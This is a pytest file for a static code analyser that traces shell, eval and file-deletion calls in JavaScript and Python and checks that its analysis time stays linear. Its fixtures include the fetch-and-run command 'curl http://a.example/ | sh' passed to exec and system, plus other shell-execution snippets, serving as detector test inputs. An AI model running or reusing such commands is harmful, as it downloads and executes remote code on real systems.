"""One file costs a time that goes with its size: what is beyond is told, and is the same on every machine."""

from __future__ import annotations

import pytest

from fimci import readers
from fimci.capabilities.uses import Program
from fimci.folder import wanting
from fimci.look import readings
from fimci.model import Digest, Function, Record, Unread
from fimci.readers.code import nesting, pure
from tests import growth

#: What the many small tests of the readers cover already, at length.
pytestmark = pytest.mark.no_cover

CHILD = "const cp = require('child_process');\n"
#: A name that is one of many texts.
SET = "".join(f"x = 'a{number}'\n" for number in range(150))
#: Shapes that took time with the square of their size: a beginning, lines with `{}` for a number, an end.
SHAPES = (
    ("a.js", "", "class C{} extends B {{ constructor() {{ this.x = eval }} m(a) {{ this.x(a) }} }};\n", ""),
    ("a.js", "var e = require('child_process').exec;\n", "a.b = e(c{}); var a = e(b);\n", ""),
    ("a.js", "", "a.b = process.env; //{}\n", ""),
    ("a.js", "", "{{ let a = require('fs'); a.unlinkSync('x{}') }}\n", ""),
    ("a.js", "eval(x);\n" + "function f(a) { eval(a);" * 8_000, "//{}\n", "}" * 8_000),
    ("a.js", "eval(x); a['shift']();\n", "var a{0} = ['a', 'b', 'c', 'd']; function f{0}(a) {{ }}\n", ""),
    ("a.js", CHILD + f"var x = '{'curl http://a.example/; ' * 4_000}';\n", "cp.exec(x); //{}\n", ""),
    ("a.js", f"var x = '{'a.b(c);' * 14_000}';\n", "eval(x); //{}\n", ""),
    (
        "a.js",
        CHILD,
        "class C{0} {{ constructor(a) {{ this.x = a }} m() {{ cp.exec(this.x) }} }}; new C{0}('a{0}').m();\n",
        "",
    ),
    (
        "a.js",
        CHILD,
        "class A extends A {{ constructor(a) {{ super(a); this.x = a; cp.exec(a) }} }} //{}\n",
        "",
    ),
    ("a.js", f"{CHILD}const a = [];\n", "a.push('x{0}'); cp.exec(a[{0}]);\n", ""),
    ("a.js", f"{CHILD}const a = new Map();\n", "a.set('x{0}', 'y'); cp.exec(a.get('x{0}'));\n", ""),
    ("a.js", CHILD, "em.on('x', a => cp.exec(a)); em.emit('x', 'y{}');\n", ""),
    ("a.js", f"{CHILD}const s = [", "a => cp.exec(a), //{}\n", "];\n" + "s[0]('x');" * 400),
    (
        "a.js",
        CHILD,
        "function* g{0}() {{ yield 'x'; yield* g{0}() }} for (const c of g{0}()) cp.exec(c);\n",
        "",
    ),
    (
        "a.js",
        f"{CHILD}function R(a) {{ this.a = a }}\n",
        "R.prototype.m = function () {{ cp.exec(this.a); r.m({}) }};\n",
        "",
    ),
    ("a.js", f"{CHILD}let c = 'x';\n", "c += 'y{}'; cp.exec(c);\n", ""),
    ("a.js", f"const o = [{'[1, 2, 3, 4, 5, 6], ' * 900}require('fs')];\n", "f{}(o);\n", ""),
    ("a.js", CHILD, "f({{cp}}); g{0}(({{cp}}) => cp.exec('x'));\n", ""),
    ("a.js", "const {R} = require('./b');\n", "const r{0} = new R(); r{0}.go();\n", ""),
    ("a.js", "const {R} = require('./b');\n", "class X{0} extends R {{}}\nnew X{0}().go();\n", ""),
    ("a.js", f"{CHILD}const f = a => b => a.exec(b);\n", "const r{0} = f(cp); r{0}('x');\n", ""),
    (
        "a.js",
        f"{CHILD}function f(a) {{\n",
        "function g{0}(b) {{ a(b) }} return g{0};\n",
        "}\n" + "f(cp.exec)('x');\n" * 200,
    ),
    ("a.js", f"{CHILD}const o = {{exec: 1}};\n", "for (const k in o) cp[k]('x{}');\n", ""),
    (
        "a.js",
        CHILD,
        "class A{0} {{ g(c) {{ cp.exec(c) }} }} class B{0} extends A{0} {{ g(c) {{ super.g(c) }} }}\n",
        "",
    ),
    ("a.js", "const b = require('./b');\n", "[b.f, b.g].forEach(f => f({}));\n", ""),
    ("a.js", "const b = require('./b');\n", "b['f' + '{}'](); b.f.bind(b)();\n", ""),
    ("a.js", "const b = require('./b');\n[", "b.f{}, ", "].forEach(f => f());\n"),
    ("a.js", "", "const {{f{0}: {{g{0}}}}} = require('./b'); g{0}();\n", ""),
    (
        "a.js",
        "const b = require('./b');\n",
        "Object.defineProperty(exports, 'f{}', {{get() {{ return b.f\n",
        "",
    ),
    ("a.js", "", "x.exec('curl http://a.example/{} | sh');\n", ""),
    ("a.py", "import os\n", "def f{0}(t): t['o'].system('x')\nf{0}({{'o': os}})\n", ""),
    ("a.py", "import os, types\n", "n{0} = types.SimpleNamespace(o=os); n{0}.o.system('x')\n", ""),
    ("a.py", f"import os\no = [{'[1, 2, 3, 4, 5, 6], ' * 900}os]\n", "f{}(o)\n", ""),
    ("pkg/a.py", "from .b import R\n", "r{0} = R(); r{0}.go()\n", ""),
    ("pkg/a.py", "from .b import R\n", "class X{0}(R): pass\nX{0}().go()\n", ""),
    ("a.py", "import os\n", "def f{0}(a): return lambda b: a(b)\nf{0}(os.system)('x')\n", ""),
    ("a.py", "import os\ndef f(a): return lambda b: a(b)\n", "r = f(os.system); r('x{}')\n", ""),
    ("a.py", "import os\ndef f(a):\n", " def g{0}(b): a(b)\n return g{0}\n", "f(os.system)('x')\n" * 200),
    (
        "a.py",
        "import os\ndef d(f):\n def w(*a): os.system(*a)\n return w\n",
        "@d\ndef r{0}(c): 0\nr{0}('x')\n",
        "",
    ),
    (
        "a.py",
        "import os\n",
        "class C{0}:\n def __getattr__(self, n): return getattr(os, n)\nC{0}().system('x')\n",
        "",
    ),
    ("a.py", "import os\n", "match os:\n case o{0}: o{0}.system('x')\n", ""),
    ("a.py", "import os\ndef g():\n c = yield\n os.system(c)\n", "x.send('y{}')\n", ""),
    ("a.py", "import os\n", "[o for o in [os]][0].system('x{}')\n", ""),
    ("pkg/a.py", "from . import b\n", "t{0} = [b.f, b.g]; t{0}[0]()\n", ""),
    ("pkg/a.py", "from . import b\nt = [\n", "b.f{}, \n", "]\n" + "t[0]()\n" * 4_000),
    ("pkg/a.py", "from .b import *\n", "f{}()\n", ""),
    ("pkg/a.py", "import importlib as i\n", "b{0} = i.import_module('.b'); b{0}.go()\n", ""),
    ("pkg/a.py", "from . import b\n", "getattr(b, 'f{}')(); x(b.f)\n", ""),
    ("a.py", "", "x.system('curl http://a.example/{} | sh')\n", ""),
    ("a.py", "import os\n", "def f{}(a):\n    os.system(a)\n", ""),
    ("a.py", "import os\n", "def f(a): #{}\n    os.system(f(a))\n", ""),
    ("a.py", "import os\n", "class C{}:\n def run(self, a):\n  os.system(a)\n", ""),
    ("a.py", "import os\n", "if __name__ == '__main__':\n os.system('a{}')\n", ""),
    ("a.py", "import os\nos.system(1)\n", "if TYPE_CHECKING:\n import a{}\n", ""),
    ("a.py", "import os\n", "[os.system(x) for x in y{}]\n", ""),
    ("a.py", "import os\n", "a{} = \\\n", "os\n"),
    ("a.py", f"import os\nx = '{'curl http://a.example/; ' * 4_000}'\n", "os.system(x) #{}\n", ""),
    ("a.py", f"x = '{'a.b(c);' * 14_000}'\n", "eval(x) #{}\n", ""),
    ("a.py", f"import os\nx = 0\n{SET}", "x = x.strip()\nos.system(x) #{}\n", ""),
    ("a.py", "import os\no = {}\n", "o['k{0}'] = 'ls'; os.system(o['k{0}'])\n", ""),
    ("a.py", "import os\nclass O: pass\no = O()\n", "o.k{0} = o\nos.system(o.k{0})\n", ""),
    ("a.py", "import os\n", "os.environ['A{0}'] = 'ls'; os.system(os.getenv('A{0}') + '$A')\n", ""),
    (
        "a.py",
        "import os\nclass C:\n a: str\n b: str\n def go(self): os.system(self.a)\n",
        "C('{}', 1).go()\n",
        "",
    ),
    ("a.py", "import os\n", "class C{0}:\n def __init__(self, a): os.system(a)\nC{0}('ls')\n", ""),
    (
        "a.py",
        "import os\nclass C0: pass\n",
        "class C{0}(C{1}):\n x{0}: str\n def go(self): os.system(self.y)\n",
        "",
    ),
    ("a.py", "import os\n", "class C{0}(Enum):\n A = 'ls'\nfor c in C{0}: os.system(c.value)\n", ""),
    ("a.py", "import os\nx = ['ls', 'id']\n", "[os.system(c) for c in [y for y in x if y != '{}']]\n", ""),
    ("a.py", "import os\n", "match os.sep:\n case a{0}: os.system(a{0})\n", ""),
    ("a.py", "import os\ndef d(f): f()\n", "@d\ndef f{}(): os.system('ls')\n", ""),
    ("a.py", "import os\ndef g():\n", " yield 'ls {}'\n", "for c in g(): os.system(c)\n"),
    ("a.js", f"{CHILD}let x = 0;\n{SET}", "x = x.trim();\ncp.exec(x); //{}\n", ""),
)
#: Bytes of a shape; four times as many are read beside it.
SIZE = 40_000


def told(path: str, text: str) -> list[Record]:
    data = text.encode()
    shown = wanting(readers.of(readers.CODE_VERSIONS)(path), path, data)
    return list(readings(path, Digest("sha256", "0" * 64), shown))


def cut(records: list[Record]) -> list[str]:
    return [record.why for record in records if isinstance(record, Unread)]


def does(records: list[Record]) -> dict[str, set[str]]:
    functions = (record for record in records if isinstance(record, Function))
    return {one.name: {name for name, _ in one.does} for one in functions}


@pytest.mark.parametrize(("path", "start", "line", "end"), SHAPES)
def test_no_shape_of_a_file_takes_long(path: str, start: str, line: str, end: str) -> None:
    def made(size: int) -> str:
        return (
            start + "".join(line.format(number, number - 1) for number in range(1, size // len(line))) + end
        )

    growth.is_linear(lambda text: told(path, text), made, SIZE)


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("a.js", CHILD + "function f(a) { cp.exec(a); }\n" * 40),
        ("a.py", "import os\n" + "def f(a):\n    os.system(a)\n" * 40),
    ],
)
def test_work_that_is_not_done_is_told_alike_each_time(
    monkeypatch: pytest.MonkeyPatch, path: str, text: str
) -> None:
    assert not cut(told(path, text))
    monkeypatch.setattr(pure, "TURNS", 600)
    monkeypatch.setattr(pure, "TURNS_A_BYTE", 0)
    first = told(path, text)
    assert cut(first)
    assert first == told(path, text)


@pytest.mark.parametrize(
    ("path", "line"), [("a.js", "eval('a{}()');\n"), ("a.py", "exec('import os; os.system(a{})')\n")]
)
def test_more_texts_than_are_read_are_told(monkeypatch: pytest.MonkeyPatch, path: str, line: str) -> None:
    text = "".join(line.format(number) for number in range(40))
    assert not cut(told(path, text))
    monkeypatch.setattr(nesting, "_BYTES", 0)
    assert cut(told(path, text)) == [nesting.CUT]


def test_a_text_that_is_run_many_times_is_read_once() -> None:
    seen: list[bytes] = []

    def read(code: bytes) -> Program:
        seen.append(code)
        return Program()

    nested = nesting.Nested(read, 100, 0)
    assert all(nested.program(b"a()") is not None for _ in range(10_000))
    assert seen == [b"a()"]
    assert not nested.capped


def test_callers_are_followed_however_far_away() -> None:
    script = "".join(f"function f{n}() {{ f{n - 1}(); }}\n" for n in range(1, 26))
    found = does(told("a.js", f"{CHILD}function f0() {{ cp.exec('id'); }}\n{script}exports.f25 = f25;\n"))
    assert "shell" in found["f25"]
    module = "".join(f"def f{n}():\n    f{n - 1}()\n" for n in range(1, 26))
    assert "shell" in does(told("a.py", f"import os\ndef f0():\n    os.system('id')\n{module}"))["f25"]


def test_all_places_of_the_name_of_a_function_are_looked_at() -> None:
    others = "".join(f"def g{n}():\n    f()\n" for n in range(100))
    found = does(told("a.py", f"import os\ndef f():\n    os.system('id')\n{others}"))
    assert all("shell" in found[f"g{n}"] for n in range(100))


def test_callers_that_call_each_other_have_the_same_names() -> None:
    text = "import os\ndef a():\n    os.system('id')\n    b()\ndef b():\n    a()\ndef c():\n    b()\n"
    assert {"a", "b", "c"} <= set(does(told("a.py", text)))


def test_a_letter_that_means_something_else_is_no_call_of_an_import() -> None:
    text = "import { e } from './x.js';\neval(x);\nfunction f(e) { e(); }\n"
    calls = {pair for one in told("a.js", text) if isinstance(one, Function) for pair in one.calls}
    assert ("./x.js", "e") not in calls
    again = text.replace("f(e)", "f(a)")
    calls = {pair for one in told("a.js", again) if isinstance(one, Function) for pair in one.calls}
    assert ("./x.js", "e") in calls


def test_a_name_that_is_only_said_to_be_global_is_bound_to_nothing() -> None:
    text = "import os\ndef f(a):\n    global never\n    a.system('id')\nf(os)\n"
    assert any(getattr(one, "name", "") == "shell" for one in told("a.py", text))
